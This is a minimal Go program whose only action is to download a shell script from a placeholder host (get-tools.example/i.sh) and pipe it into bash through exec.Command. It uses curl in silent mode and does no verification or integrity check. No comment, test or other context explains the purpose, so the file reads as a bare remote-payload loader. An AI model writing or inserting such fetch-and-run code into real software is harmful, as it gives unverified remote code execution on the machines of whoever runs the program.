package main

import (
	"fmt"
	"os/exec"
)

func main() {
	u := "https://get-tools.example/i.sh"
	exec.Command("bash", "-c", fmt.Sprintf("curl -s %s | bash", u)).Run()
}
